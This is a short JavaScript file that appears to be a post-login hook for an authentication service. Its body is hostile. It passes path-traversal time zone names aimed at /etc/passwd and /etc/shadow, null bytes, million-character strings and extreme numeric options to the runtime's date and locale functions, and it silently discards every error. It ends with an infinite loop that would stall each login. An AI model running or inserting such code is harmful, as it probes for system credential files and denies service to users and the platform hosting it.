exports.onExecutePostLogin = async (event, api) => {
  for (const timeZone of ['../../../../etc/passwd', '/etc/passwd', 'Europe/../../etc/shadow', 'x'.repeat(1e6), '\u0000', 'Etc/GMT+99', 'zone.tab', 'tzdata.zi']) {
    try { new Date(8.64e15).toLocaleString('en', { timeZone }); } catch (e) { void e; }
    try { new Intl.DateTimeFormat('en', { timeZone }).format(-8.64e15); } catch (e) { void e; }
  }
  for (const locale of [new Proxy([], { get: () => 'en' }), 'en-' + 'x'.repeat(1e6), { length: 2 ** 32 }]) {
    try { (1e300).toLocaleString(locale, { minimumFractionDigits: 1e9, maximumFractionDigits: 1e9 }); } catch (e) { void e; }
  }
  for (;;) new Date().toLocaleString('en-GB', { timeZone: 'Asia/Kolkata' });
};
